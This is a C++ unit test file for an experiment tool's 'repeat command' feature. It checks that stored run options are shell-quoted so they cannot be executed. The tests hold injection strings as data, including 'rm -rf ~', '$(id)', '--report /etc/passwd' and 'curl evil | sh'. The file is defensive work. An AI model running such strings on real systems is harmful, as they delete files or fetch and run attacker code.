// SPDX-License-Identifier: Apache-2.0
#include "reports/repeat_command.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "reports/render.h"
#include "reports/synthetic_database.h"
#include "results/example_runs.h"

namespace assay {
namespace {

using test::TemporaryFolder;
using testing::HasSubstr;
using testing::Not;

RunRow row(std::uint64_t seed, const std::string& options = {}) {
  RunRow run;
  run.experiment = "vae/example";
  run.seed = seed;
  run.overrides = options;
  return run;
}

std::string command(const std::string& target, const RunRow& run) {
  return repeat_command(target, {&run, 1});
}

TEST(RepeatCommand, NamesTheTargetItsSeedsAndItsOptions) {
  const std::vector<RunRow> runs = {row(2), row(0), row(2)};
  EXPECT_EQ(repeat_command("", runs), "./assay run vae/example --seeds 0,2");
  EXPECT_EQ(command("", row(1, "--set a.b=2 --set 'eval.metrics=[\"fd\"]'")),
            "./assay run vae/example --seeds 1 --set a.b=2 --set 'eval.metrics=[\"fd\"]'");
  RunRow smoke = row(1);
  smoke.smoke = true;
  EXPECT_EQ(command("", smoke), "./assay run vae/example --seeds 1 --smoke");
  smoke.overrides = "--smoke --set a=b";
  EXPECT_EQ(command("", smoke), "./assay run vae/example --seeds 1 --smoke --set a=b");
}

TEST(RepeatCommand, NamesTheFileThatWasRun) {
  EXPECT_EQ(command("/home/a b/x.toml", row(0)), "./assay run '/home/a b/x.toml' --seeds 0");
  RunRow run = row(0);
  run.experiment = "x";
  EXPECT_EQ(command("", run), "./assay run x.toml --seeds 0");  // of a database of before
}

TEST(RepeatCommand, SaysDeviceAndThreadsWhereTheyAreNotTheUsualOnes) {
  RunRow run = row(0);
  run.device = "cuda";
  run.threads = 4;
  EXPECT_EQ(command("", run), "./assay run vae/example --seeds 0 --device cuda --threads 4");
}

TEST(RepeatCommand, OfSamplesMadeElsewhereIsACommentThatSaysSo) {
  RunRow run = row(3);
  run.family = "outside";
  run.experiment = "peers/one";
  EXPECT_EQ(command("/data/a b", run),
            "# peers/one (seeds 3): scores of samples made elsewhere, with nothing to run again; "
            "assay eval --generated '/data/a b' --record peers/one scores such files");
  run.experiment = "x\nrm -rf ~";
  EXPECT_THAT(command("a\nb", run), Not(HasSubstr("\n"))) << "a comment ends with its line";
}

TEST(QuotedOptions, LetNothingOfAHostileDatabaseBeCarriedOut) {
  EXPECT_EQ(quoted_options("--set a=b; rm -rf ~"), "'stored options: --set a=b; rm -rf ~'");
  EXPECT_EQ(quoted_options("--set a=$(id) --set 'b=`id`'"), "--set 'a=$(id)' --set 'b=`id`'");
  EXPECT_EQ(quoted_options("--set a=b;id"), "--set 'a=b;id'");
  EXPECT_EQ(quoted_options("--set a=b\n--set c=d"), "--set a=b --set c=d");
  EXPECT_EQ(quoted_options("--set 'a=b"), "'stored options: --set '\\''a=b'");
  // Options of `assay run` that write elsewhere are none that assay stores.
  EXPECT_EQ(quoted_options("--report /etc/passwd"), "'stored options: --report /etc/passwd'");
  EXPECT_EQ(quoted_options("--set --report=/etc/passwd"),
            "'stored options: --set --report=/etc/passwd'");
  EXPECT_EQ(quoted_options("--report=/x"), "'stored options: --report=/x'");
  EXPECT_EQ(quoted_options("--set"), "'stored options: --set'");
}

TEST(RepeatCommand, TakesNoTargetForAnOption) {
  EXPECT_EQ(command("--db=/x", row(0)), "./assay run ./--db=/x --seeds 0");
  RunRow run = row(0);
  run.experiment = "-x/y; id";
  EXPECT_EQ(command("", run), "./assay run './-x/y; id' --seeds 0");
}

TEST(RepeatCommand, IsQuotedOnThePage) {
  const TemporaryFolder folder;
  {
    auto database = Database::open_for_writing(folder / "a.sqlite");
    test::MadeUpRun run;
    run.source = "/tmp/x y.toml";
    run.overrides = "--set a=b; curl evil | sh";
    test::add_run(database, run);
  }
  const Report report = build_report(folder / "a.sqlite", {});
  const std::string safe =
      "./assay run '/tmp/x y.toml' --seeds 0 'stored options: --set a=b; curl evil | sh'\n";
  EXPECT_THAT(render(report, Format::kMarkdown), HasSubstr(safe));
  EXPECT_THAT(
      render(report, Format::kHtml),
      HasSubstr(
          "&#39;/tmp/x y.toml&#39; --seeds 0 &#39;stored options: --set a=b; curl evil | sh&#39;"));
}

}  // namespace
}  // namespace assay
